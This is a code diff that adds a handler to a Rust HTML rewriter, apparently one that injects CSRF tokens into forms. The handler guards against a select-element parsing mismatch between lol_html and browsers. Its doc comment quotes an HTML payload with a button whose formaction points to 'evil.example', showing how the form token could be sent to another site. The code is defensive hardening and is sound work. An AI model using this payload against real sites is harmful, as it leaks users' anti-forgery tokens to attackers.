@@ -78,6 +78,21 @@ pub(super) fn on_base(shared: &Shared, el: &mut Element<'_, '_>) -> HandlerResul
     Ok(())
 }
 
+/// A start tag inside a `<select>` (lol_html's view) that some reading takes out of it: the
+/// "in select" mode closes the select at `<input>`, `<keygen>` and `<textarea>`, the relaxed
+/// parser at table parts too. The browser then ignores the `</select>` after it, and lol_html
+/// pops at that end tag what the browser keeps open: in
+/// `<form method=post><select><table></select></form><button formaction=//evil.example/>` the
+/// table stays open, so `</form>` (its form out of scope) is ignored and the button belongs to
+/// the form, whose token went to another site (found by `rewrite_pieces`). From here on the
+/// rewriter is unsure where selects end, as where one closed at another end tag.
+pub(super) fn on_select_closer(shared: &Shared, _: &mut Element<'_, '_>) -> HandlerResult {
+    let mut state = shared.borrow_mut();
+    readings::form_state_unsure(&mut state);
+    state.forms.select_may_have_closed();
+    Ok(())
+}
+
 /// `<template>` and `<select>`: where a form may not get the token.
 pub(super) fn on_container(shared: &Shared, el: &mut Element<'_, '_>) -> HandlerResult {
     let template = el.tag_name() == "template";
